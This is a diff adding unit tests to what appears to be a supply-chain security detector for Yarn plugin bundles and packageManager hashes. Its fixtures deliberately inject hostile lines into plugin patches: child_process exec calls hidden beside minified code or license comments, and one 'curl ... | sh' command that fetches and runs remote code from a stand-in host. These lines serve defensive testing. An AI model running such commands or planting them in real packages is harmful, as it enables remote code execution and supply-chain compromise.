@@ -116,6 +116,30 @@ describe('build-wrapper-changed: JavaScript package managers', () => {
     expect(pm([manifest('yarn@4.5.3', 'yarn@https://registry.npmjs.org/@yarnpkg/cli-dist/-/cli-dist-4.5.3.tgz#sha224.abcd')])).toEqual([]);
   });
 
+  it("is quiet on a project's own readable plugin (prettier's plugin-prepare.cjs), and still reports a bundled plugin edited anywhere", () => {
+    const pluginPatch = (...lines: string[]) => makeFile('.yarn/plugins/plugin-prepare.cjs', { patch: ['@@ -4,7 +4,7 @@', ...lines].join('\n') });
+    // prettier #19340: its own hook, hand-written, edited with the tests it serves.
+    const own = pluginPatch(' function setupVscode() {', '-  const settingsFile = path.join(__dirname, "../../.vscode/settings.json");', '+  const vscodeDirectory = path.join(root, ".vscode/");', '+  const settingsFile = path.join(vscodeDirectory, "settings.json");', '   const settingsExampleFile = path.join(');
+    expect(pm([own])).toEqual([]);
+    // A bundle written by `yarn plugin import`: its minified line, its scaffold or its legal comments show around any edit.
+    const minified = `var plugin=(()=>{var yr=Object.create;${'var a=1;'.repeat(60)}`;
+    expect(pm([pluginPatch(' factory: function (require) {', `-${minified}`, `+${minified}require("child_process").exec("id");`)])).toHaveLength(1);
+    expect(pm([pluginPatch('  * Released under the MIT License.', '  */', '+require("child_process").execSync("curl -s https://example.invalid/x | sh");', ' return plugin;', ' }')])).toHaveLength(1);
+    expect(pm([pluginPatch('  * Copyright (c) 2015-present, Jon Schlinkert.', '  */', '+require("child_process").execSync("id");', ' /*!', '  * to-regex-range <https://github.com/micromatch/to-regex-range>')])).toHaveLength(1);
+    expect(pm([pluginPatch(' /**', '+ * @license MIT', '+require("child_process").execSync("id");', ' */')])).toHaveLength(1);
+    // Patch unknown (too large for GitHub): a bundle.
+    expect(pm([bundle('.yarn/plugins/plugin-prepare.cjs')])).toHaveLength(1);
+  });
+
+  it('is quiet on a hash dropped by a Yarn upgrade that commits its new release (jest #14880, Renovate), and still reports one dropped in place', () => {
+    const upgrade = manifest('yarn@3.7.0+sha256.7bf0c78a106332886ea4e59641fd819b1af953edcd72c4d93a32b1c71000ee67', 'yarn@3.8.0');
+    expect(pm([bundle('.yarn/releases/yarn-3.7.0.cjs', 'removed'), bundle('.yarn/releases/yarn-3.8.0.cjs', 'added'), upgrade])).toEqual([]);
+    expect(pm([makeFile('.yarn/releases/yarn-3.8.0.cjs', { status: 'renamed', previousPath: '.yarn/releases/yarn-3.7.0.cjs', patch: null }), upgrade])).toEqual([]);
+    // No release committed with it, or the same version: the hash is what was lost.
+    expect(pm([upgrade])).toEqual(['medium package.json:2 packageManager hash removed']);
+    expect(pm([bundle('.yarn/releases/yarn-3.7.0.cjs', 'added'), manifest('yarn@3.7.0+sha256.7bf0', 'yarn@3.7.0')])).toEqual(['medium package.json:2 packageManager hash removed']);
+  });
+
   it('reads .corepack.env: signature checks turned off (high), another registry (medium, high over HTTP)', () => {
     const env = (...added: string[]) => makeFile('.corepack.env', { status: 'added', patch: [`@@ -0,0 +1,${added.length} @@`, ...added.map((l) => `+${l}`)].join('\n') });
     expect(pm([env('COREPACK_INTEGRITY_KEYS=0')])).toEqual([".corepack.env:1 Corepack's signature check turned off"].map((t) => `high ${t}`));
